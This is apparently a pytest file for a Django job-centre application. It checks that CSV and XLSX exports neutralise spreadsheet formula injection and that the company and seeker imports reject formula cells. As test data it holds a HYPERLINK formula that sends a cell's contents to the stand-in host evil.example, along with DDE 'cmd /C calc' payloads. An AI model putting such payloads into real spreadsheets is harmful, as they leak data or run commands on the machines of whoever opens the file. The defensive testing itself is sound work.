"""Spreadsheet formula injection: text typed by employers and residents never reaches a counselor's download as a
live formula (jobcenter/security/exports.py, OWASP's rule), and the imports refuse such cells in their preview."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from employers.models import Company, ImportBatch
from jobcenter.security.exports import neutralise
from seekers.models import Seeker
from tests.employers.factories import CompanyFactory, business_number
from tests.outreach.factories import CampaignFactory

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?c="&F2,"연락처 보기")'
HOSTILE = [LINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise__makes_every_formula_start_inert(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["김민서", "010-1234-5678", 42, -5, 3.5, None, ""])
def test_neutralise__leaves_data_alone(value):
    assert neutralise(value) == value


def cells(sheet) -> list:
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_no_formula(content: bytes, hostile: str) -> None:
    book = load_workbook(io.BytesIO(content))
    found = [cell for sheet in book.worksheets for cell in cells(sheet) if hostile in str(cell.value)]
    assert found, "the hostile text must be in the file"
    assert all(cell.data_type == "s" and cell.value == "'" + hostile for cell in found)


def test_seekers_csv__a_seeker_named_as_a_formula__is_written_as_text(world):
    Seeker.objects.filter(pk=world.seeker_a.pk).update(name=LINK)
    response = world.client_for("counselor_x").post(reverse("seekers:export"), {"purpose": "report"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    names = [row[1] for row in rows[1:]]
    assert "'" + LINK in names and LINK not in names


def test_campaign_contacts__a_contact_name_as_a_formula__is_written_as_text(world):
    company = CompanyFactory(centre=world.centre_x, contact_name=LINK, contact_email="@evil")
    campaign = CampaignFactory(centre=world.centre_x, companies=[company])
    response = world.client_for("counselor_x").get(reverse("outreach:campaign_contacts", kwargs={"pk": campaign.pk}))
    assert_no_formula(response.content, LINK)


def test_event_report__a_company_named_as_a_formula__is_written_as_text(world):
    from events.models import Participation
    from tests.events.factories import EventFactory

    event = EventFactory(centre=world.centre_x, state="held")
    company = CompanyFactory(centre=world.centre_x, name="-2+3+cmd|' /C calc'!A0")
    Participation.objects.create(event=event, company=company, booth="B-1", status=Participation.Status.CONFIRMED)
    response = world.client_for("counselor_x").get(reverse("events:manage_report_xlsx", kwargs={"pk": event.pk}))
    assert_no_formula(b"".join(response.streaming_content), "-2+3+cmd|' /C calc'!A0")


def test_statistics_workbook__a_text_cell_as_a_formula__is_written_as_text():
    from jobcenter.statistics.reports import ReportContent, Table, report_xlsx

    content = ReportContent(title="월간 실적", subtitle="@SUM(1)", tables=[Table("표", ["구분"], [[LINK, 3]])])
    assert_no_formula(report_xlsx(content), LINK)
    assert_no_formula(report_xlsx(content), "@SUM(1)")


def upload_companies(client, content: str):
    client.post(
        reverse("employers:import_new"),
        {"kind": "companies", "file": SimpleUploadedFile("companies.csv", content.encode())},
    )
    return ImportBatch.objects.latest("pk")


def test_company_import__a_formula_cell__is_flagged_in_the_preview_and_nothing_imported(world):
    client = world.client_for("counselor_x")
    content = (
        "external_ref,business_number,name,contact_name,contact_phone\n"
        f'C-1,{business_number(511)},서구정밀(주),"{LINK.replace(chr(34), chr(34) * 2)}",+82 32-000-0001\n'
    )
    batch = upload_companies(client, content)
    page = client.get(reverse("employers:import_preview", kwargs={"pk": batch.pk}), HTTP_ACCEPT_LANGUAGE="en")
    body = page.content.decode()
    assert "contact_name: starts with =" in body and "Import now" not in body
    assert "contact_phone: starts" not in body  # a phone number with + is data
    client.post(reverse("employers:import_preview", kwargs={"pk": batch.pk}))
    assert not Company.objects.filter(external_ref="C-1").exists()


def test_seeker_import__a_formula_cell__is_flagged_in_the_preview_and_nothing_imported(world):
    client = world.client_for("counselor_x")
    file = io.BytesIO(b"external_ref,name,birth_date,phone\nF-1,@SUM(1+1),1990-02-03,010-1234-0001\n")
    file.name = "seekers.csv"
    preview = client.post(
        reverse("seekers:import"), {"file": file, "booth": world.seeker_a.booth_id}, HTTP_ACCEPT_LANGUAGE="en"
    )
    assert "name: starts with @" in preview.content.decode()
    assert not preview.context["clean"]
    client.post(reverse("seekers:import"), {"action": "confirm", "token": preview.context.get("token", "")})
    assert not Seeker.objects.filter(external_ref="F-1").exists()
